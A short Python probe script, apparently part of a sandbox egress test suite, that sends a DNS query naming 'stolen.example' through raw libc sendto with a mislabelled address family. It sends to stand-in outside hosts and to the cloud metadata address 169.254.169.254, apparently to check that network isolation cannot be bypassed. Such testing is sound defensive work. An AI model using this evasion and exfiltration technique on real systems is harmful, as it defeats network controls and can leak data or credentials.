"""T19e: sends datagrams outside and to a name server, to addresses that do not say that they are of IPv4."""

import ctypes
import os
import socket
import struct

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
libc = ctypes.CDLL(None)
question = bytes.fromhex("abcd01000001000000000000") + b"\6stolen\7example\0\0\x01\0\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
    for host, port in (("198.51.100.7", 443), ("198.51.100.8", 53), ("169.254.169.254", 80)):
        address = struct.pack("=HH", socket.AF_UNSPEC, socket.htons(port)) + socket.inet_aton(host) + bytes(8)
        libc.sendto(udp.fileno(), question, len(question), 0, address, len(address))
